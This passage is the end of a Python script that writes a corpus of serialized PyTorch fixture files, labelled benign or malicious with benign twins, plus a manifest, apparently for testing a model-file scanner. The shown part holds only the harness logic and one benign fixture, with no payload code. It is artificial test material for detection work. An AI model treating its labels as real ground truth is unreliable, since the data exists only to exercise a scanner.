fx('benign-real-scheduler-state.pt', '10-benign-pinning', [],
   'real optimizer + OneCycleLR state dicts, a bound method inside '
   '(python3-torch only)', twin=False,
   verdict='benign', needs=['torch'])(lambda ctx: _real_torch('sched'))


# ---------------------------------------------------------------------------
# Peer suites
# ---------------------------------------------------------------------------
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'peers'))
import peers  # noqa: E402
peers.register(fx, Ctx)


# ---------------------------------------------------------------------------
def have(mods):
    import importlib.util
    return all(importlib.util.find_spec(m) is not None for m in mods)


def entries():
    """Yield (entry, builder, benign) for every fixture and twin."""
    for f in FIXTURES:
        yield f, False
        if f['twin'] and f['verdict'] == 'malicious':
            yield f, True


def twin_name(name):
    return 'benign-twin-' + name


def write_all(outdir):
    os.makedirs(outdir, exist_ok=True)
    manifest = []
    for f, benign in entries():
        if f['needs'] and not have(f['needs']):
            continue
        ctx = Ctx(benign=benign)
        data = f['build'](ctx)
        if data is None:
            continue
        name = twin_name(f['name']) if benign else f['name']
        with open(os.path.join(outdir, name), 'wb') as fp:
            fp.write(data)
        manifest.append(dict(name=name, cls=f['cls'],
                             verdict='benign' if benign else f['verdict'],
                             loaders=[] if benign else f['loaders'],
                             note=f['note']))
    with open(os.path.join(outdir, 'manifest.json'), 'w') as fp:
        json.dump(manifest, fp, indent=1)
    return manifest


def list_all():
    for f, benign in entries():
        name = twin_name(f['name']) if benign else f['name']
        print('%-55s %-20s %-9s %s' % (name, f['cls'],
                                       'benign' if benign else f['verdict'],
                                       ','.join([] if benign else f['loaders'])))


def main(argv):
    if len(argv) >= 2 and argv[1] == '--self-test':
        import selftest
        return selftest.run(FIXTURES, Ctx, argv[2:])
    if len(argv) == 2 and argv[1] == '--list':
        list_all()
        return 0
    if len(argv) != 2 or argv[1].startswith('-'):
        print(__doc__, file=sys.stderr)
        return 2
    m = write_all(argv[1])
    print('wrote %d fixtures to %s' % (len(m), argv[1]))
    return 0


if __name__ == '__main__':
    sys.exit(main(sys.argv))
